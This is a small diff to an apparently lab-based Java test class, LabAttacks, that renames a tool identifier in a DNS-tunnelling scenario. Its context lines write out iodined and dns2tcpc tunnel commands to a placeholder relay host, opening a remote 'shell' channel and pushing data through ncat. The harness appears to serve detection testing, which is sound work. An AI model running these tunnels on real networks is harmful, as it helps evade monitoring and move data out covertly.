@@ -216,7 +216,7 @@ final class LabAttacks {
                 wait
                 """,
                 new Listener(EVILA, "exec iodined -f -c -P secret -d dnss 10.99.0.1/24 tunnel.example"));
-        judge("dns-tunnel-dns2tcp", "dns2tcp", CI, 10, """
+        judge("dns-tunnel-dns2tcp", "dns2tcpc", CI, 10, """
                 timeout 25 dns2tcpc -z relay.example -k secret -r shell -l 2222 $DNS & sleep 2
                 for i in $(seq 8); do head -c 1500 /dev/urandom | timeout 4 ncat 127.0.0.1 2222; done
                 wait
